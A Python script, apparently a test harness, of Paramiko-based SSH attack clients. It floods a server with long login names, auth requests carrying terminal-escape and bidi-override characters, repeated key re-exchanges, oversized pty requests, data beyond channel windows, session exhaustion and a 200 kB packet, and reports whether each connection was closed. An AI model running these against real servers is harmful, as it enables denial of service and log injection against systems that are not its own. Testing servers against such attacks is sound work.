"""Clients that keep to the protocol just enough to do harm: one attack per word, each bounded.

They speak through Paramiko's transport, which sends whatever packet it is given."""
import logging
import socket
import sys
import threading
import time

import paramiko
from paramiko import common
from paramiko.message import Message

attack, host, port, key, source = sys.argv[1:]
logging.disable()

NAME = "x" * 30_000


def connect(address):
    """A connection from this address with its keys exchanged."""
    sock = socket.socket(socket.AF_INET6)
    sock.bind((address, 0))
    sock.settimeout(20)
    sock.connect((host, int(port)))
    transport = paramiko.Transport(sock)
    transport.start_client(timeout=20)
    return transport


def stranger(address):
    """The same, about to log in."""
    transport = connect(address)
    request = Message()
    request.add_byte(bytes([5]))
    request.add_string("ssh-userauth")
    transport._send_message(request)
    return transport


def ask(transport, name, method=b"keyboard-interactive"):
    """A request to log in by this name."""
    request = Message()
    request.add_byte(bytes([50]))
    request.add_string(name)
    request.add_string("ssh-connection")
    request.add_string(method)
    if method == b"keyboard-interactive":
        request.add_string("")
        request.add_string("")
    transport._send_message(request)


def names():
    """33 connections from 5 /64s, each with the longest names that fit, reading nothing."""
    open_ = []
    for number in range(33):
        try:
            transport = stranger(f"{source}{number % 5}::{number + 1}")
            for _ in range(8):
                ask(transport, NAME)
            open_.append(transport)
        except (paramiko.SSHException, OSError, EOFError):
            pass
    time.sleep(1)
    print("open", len(open_))


def attempts():
    """Requests on one connection until it is closed."""
    transport = stranger(f"{source}1::1")
    sent = 0
    end = time.monotonic() + 10
    while transport.is_active() and time.monotonic() < end:
        ask(transport, "\x1b[31m\u202e\u2066\u2028" + str(sent))
        sent += 1
        time.sleep(0.005)
    print("closed" if not transport.is_active() else "open", sent)


def exchanges():
    """Seven connections that exchange keys again and again, for four seconds."""
    count = [0]
    end = time.monotonic() + 4

    def loop(number):
        transport = stranger(f"{source}1::{number + 1}")
        while time.monotonic() < end:
            transport.clear_to_send.clear()
            transport.completion_event = threading.Event()
            transport._send_kex_init()
            while not transport.completion_event.is_set():
                if time.monotonic() > end or not transport.is_active():
                    return
                transport.completion_event.wait(0.01)
            count[0] += 1

    threads = [threading.Thread(target=loop, args=(number,), daemon=True) for number in range(7)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(6)
    print("exchanges", count[0])


def member():
    """A connection that is logged in."""
    transport = connect(f"{source}1::1")
    transport.auth_publickey("alice", paramiko.Ed25519Key.from_private_key_file(key))
    return transport


def terminals():
    """A member's terminals of impossible names, on all the channels there are, never started."""
    transport = member()
    channels = [transport.open_session() for _ in range(8)]
    for _ in range(60):
        for channel in channels:
            request = Message()
            request.add_byte(common.cMSG_CHANNEL_REQUEST)
            request.add_int(channel.remote_chanid)
            request.add_string("pty-req")
            request.add_boolean(False)
            request.add_string(NAME)
            for number in (80, 24, 0, 0):
                request.add_int(number)
            request.add_string(b"")
            transport._send_message(request)
    input_ahead(transport, channels)
    print("terminals")


def input_ahead(transport, channels):
    """Input on channels that nobody has started, beyond any window."""
    for _ in range(16):
        for channel in channels:
            request = Message()
            request.add_byte(common.cMSG_CHANNEL_DATA)
            request.add_int(channel.remote_chanid)
            request.add_string(b"y" * 30_000)
            transport._send_message(request)


def sessions():
    """Commands on one connection, one after another, until no more are let in."""
    transport = member()
    done = 0
    try:
        for _ in range(300):
            channel = transport.open_session()
            channel.exec_command("whoami")
            channel.recv_exit_status()
            done += 1
    except (paramiko.SSHException, EOFError):
        pass
    print("sessions", done)


def packet():
    """A packet of 200 kB."""
    transport = stranger(f"{source}1::1")
    ask(transport, "x" * 200_000)
    time.sleep(0.5)
    print("closed" if not transport.is_active() else "open")


globals()[attack]()
